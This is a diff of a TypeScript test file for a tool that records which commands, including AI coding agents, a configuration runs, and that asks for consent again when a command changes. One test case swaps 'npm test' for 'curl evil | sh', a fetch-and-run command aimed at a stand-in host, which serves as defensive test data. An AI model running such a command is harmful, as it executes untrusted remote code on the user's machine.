@@ -31,10 +31,8 @@ function read(text: string) {
 test('lists every command with what it is for', () => {
   expect(commandsOf(read(TEXT))).toEqual([
     { where: 'dev: lead', command: 'claude' },
-    { where: 'dev: coder on ssh://box/~/app', command: 'codex' },
-    { where: 'dev: coder on ssh://box/~/app, gate tests', command: 'npm test' },
-    { where: 'mode ui, every pane', command: 'devbox shell' },
-    { where: 'mode ui, pane git status', command: 'git status' },
+    { where: 'dev: coder', command: 'codex' },
+    { where: 'dev: coder, gate tests', command: 'npm test' },
   ])
 })
 
@@ -45,9 +43,6 @@ test('consent is asked again when a command changes, and only then', () => {
   for (const [from, to] of [
     ['"codex"', '"codex --yolo"'],
     ['"npm test"', '"curl evil | sh"'],
-    ['"git status"', '"git log"'],
-    ['"devbox shell"', '"sh"'],
-    ['ssh://box/', 'ssh://other/'],
   ] as const) {
     expect(consentKey(read(TEXT.replace(from, to)))).not.toBe(key)
   }
